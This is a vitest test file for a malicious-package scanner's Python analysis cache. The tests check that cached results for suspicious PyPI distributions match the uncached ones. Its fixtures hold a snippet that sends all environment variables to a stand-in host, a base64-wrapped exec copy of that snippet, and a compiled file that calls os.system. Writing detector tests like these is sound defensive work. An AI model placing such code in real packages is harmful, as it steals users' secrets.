import { hash } from 'node:crypto';
import { inflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { analyzeArtifact } from './analyze.ts';
import type { ArtifactAnalysis } from './api.ts';
import { createFactsMemory, type FactsSession, openFactsSession } from './facts-cache.ts';
import { packBundle, unpackBundle } from './facts-cache-bundle.ts';
import { createPythonAnalyzer } from './facts-cache-python.ts';
import { createMemoryView } from './memory-view.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;
type Timeless = Omit<ArtifactAnalysis, 'elapsedMs' | 'factsMs'>;

const MEMORY_BYTES = 1024 * 1024;
const METADATA = 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\n\n';
const INFO = 'acme_tool-1.2.0.dist-info/METADATA';
const STEAL = [
  'import os, urllib.request',
  "urllib.request.urlopen('https://collect.weir.invalid/in', data=str(dict(os.environ)).encode())",
].join('\n');
const LAYERED = `import base64\nexec(base64.b64decode('${Buffer.from(STEAL).toString('base64')}'))\n`;
/** `os.system` and an `exec` of decoded text, compiled by CPython 3.11. */
const COMPILED = inflateSync(
  Buffer.from(
    'eNpbzsvLxYAEHiNzWKH05wwgMZ0hhSGFMYchCkIzRjEyMaQyZDHBFKcwLWNkYFjNCOMzMgDlmYGYMYsFroYZVQ26jhTGYAZNlpcgjl8VX2aKgp2CfkpqmX5eaU7OLYVkD6+CpLzAfC+jjJwk94oyr8ps88Rww/IkYy8DT3fLKk3WW0z5xbfYkhKLU81MbrEVVxaXpObeYkmtSE2+xZlkZpKSmpyfkrqS4TPIgl9cmXnFJYk5OXoFlb84bHLzU0pzUu2KeMAOYWAo9gcSH5gZGRlvMHA2gOENBt4GMASJMLVwXuCSusggfYVB+gKD9A0GlgaWC6yiDWFXWEUviFlcZLW8wmp5kcHqCoPVBRgqAgU1AH4VVFo=',
    'base64',
  ),
);

const SDIST = 'acme_tool-1.2.0.tar.gz';
const WHEEL = 'acme_tool-1.2.0-py3-none-any.whl';
const DISTRIBUTIONS: readonly (readonly [string, string, Files])[] = [
  [
    'a setup script with a layer',
    SDIST,
    { 'PKG-INFO': METADATA, 'setup.py': LAYERED, 'acme/__init__.py': '' },
  ],
  [
    'a module that another one loads',
    WHEEL,
    { [INFO]: METADATA, 'acme/__init__.py': 'from . import core', 'acme/core.py': STEAL },
  ],
  ['a file without its source', WHEEL, { [INFO]: METADATA, 'acme/__init__.pyc': COMPILED }],
  [
    'a program that is Python 2',
    SDIST,
    { 'PKG-INFO': METADATA, 'setup.py': `print 'x'\nexec 'import os'\n` },
  ],
  [
    'a main block',
    SDIST,
    { 'PKG-INFO': METADATA, 'setup.py': `if __name__ == '__main__':\n  ${STEAL.replace('\n', '\n  ')}\n` },
  ],
];

function session(previous?: FactsSession): FactsSession {
  // Through the packed form: what the disk would give back.
  const packed = previous && packBundle(previous.used);
  return openFactsSession(createFactsMemory(MEMORY_BYTES), () => (packed ? unpackBundle(packed) : new Map()));
}

async function analyze(filename: string, files: Files, facts: FactsSession | null): Promise<Timeless> {
  await using view = createMemoryView(files);
  const { elapsedMs, factsMs, ...result } = await analyzeArtifact(
    view,
    { ecosystem: 'pypi', filename, context: null },
    {
      layout: 'directory',
      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => performance.now(),
      analyzePython: createPythonAnalyzer(facts, 'test'),
    },
  );
  expect([elapsedMs, factsMs].every((ms) => (ms ?? 0) >= 0)).toBe(true);
  return result;
}

describe('the facts of Python are kept', () => {
  test.each(DISTRIBUTIONS)('and change no result: %s', async (_name, filename, files) => {
    const without = await analyze(filename, files, null);
    const first = session();
    expect(await analyze(filename, files, first)).toEqual(without);
    expect(first.misses).toBeGreaterThan(0);

    const second = session(first);
    expect(await analyze(filename, files, second)).toEqual(without);
    expect(second.misses).toBe(0);
    expect(second.hits).toBeGreaterThanOrEqual(first.misses);
  });

  test('of what is equal in the files of a release once, whatever else they hold', async () => {
    const memory = createFactsMemory(MEMORY_BYTES);
    const wheel = (platform: number): Files => ({
      [INFO]: METADATA,
      'acme/__init__.py': 'from . import a, b',
      'acme/a.py': 'import os\nx = os.environ\n',
      'acme/b.py': STEAL,
      'acme/native.so': Buffer.from([0x7f, 0x45, 0x4c, 0x46, platform]),
    });
    const runs: FactsSession[] = [];
    for (const platform of [1, 2, 3]) {
      const facts = openFactsSession(memory, () => new Map());
      await analyze(WHEEL, wheel(platform), facts);
      runs.push(facts);
    }

    expect(runs.map(({ misses }) => misses)).toEqual([3, 0, 0]);
    expect(runs.map(({ hits }) => hits)).toEqual([0, 3, 3]);
  });

  test('with what the detectors asked of each source, for one version of the rules', async () => {
    const files = { [INFO]: METADATA, 'acme/__init__.py': STEAL };
    const first = session();
    await analyze(WHEEL, files, first);
    first.close();
    const digest = hash('sha256', STEAL);

    const second = session(first);
    const answerOf = (rules: string): unknown =>
      createPythonAnalyzer(second, rules).source(STEAL, {}).answers.get('dropper runtime');
    expect([answerOf('test') !== undefined, answerOf('other')]).toEqual([true, undefined]);
    expect([...first.used.keys()]).toContain(`${digest} py asked by test`);
  });

  test('apart for a module and for a program: only one of them runs its main block', async () => {
    const text = `if __name__ == '__main__':\n    import os\n    os.system('id > /dev/null')\n`;
    const files = { 'PKG-INFO': METADATA, 'setup.py': 'import helper', 'helper.py': text };
    const facts = session();
    const analyzer = createPythonAnalyzer(facts, 'test');

    const kept = [false, true, false, true].map((script) => analyzer.source(text, { script }));
    expect(kept.map(({ facts: { commands } }) => commands.some(({ live }) => live))).toEqual([
      false,
      true,
      false,
      true,
    ]);
    expect(facts).toMatchObject({ hits: 2, misses: 2 });
    expect(await analyze(SDIST, files, facts)).toEqual(await analyze(SDIST, files, null));
  });

  test('but no stage: a module that was shipped dead is found once a line loads it', async () => {
    const dead: Files = { [INFO]: METADATA, 'acme/__init__.py': 'x = 1', 'tests/p.py': STEAL };
    const alive: Files = { ...dead, 'acme/__init__.py': 'import tests.p' };
    const first = session();
    await analyze(WHEEL, dead, first);
    const facts = session(first);

    expect(await analyze(WHEEL, alive, facts)).toEqual(await analyze(WHEEL, alive, null));
  });
});
